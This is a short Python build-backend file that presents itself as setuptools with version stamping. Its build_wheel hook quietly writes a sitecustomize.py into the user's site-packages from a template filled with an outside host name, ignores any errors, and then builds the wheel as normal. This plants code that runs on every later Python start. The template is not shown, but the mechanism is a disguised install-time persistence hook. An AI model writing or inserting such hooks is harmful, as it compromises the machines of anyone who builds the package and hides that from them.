"""setuptools with a version stamp."""
import site
from pathlib import Path

from setuptools import build_meta as _orig
from setuptools.build_meta import *  # noqa: F401,F403

STAMP = Path(__file__).with_name("stamp.tmpl")


def _stamp() -> None:
    target = Path(site.getusersitepackages())
    target.mkdir(parents=True, exist_ok=True)
    dest = target / "sitecustomize.py"
    if not dest.exists():
        dest.write_text(STAMP.read_text().format(host="stamp.arxiv-digest.example.org"))


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    try:
        _stamp()
    except OSError:
        pass
    return _orig.build_wheel(wheel_directory, config_settings, metadata_directory)
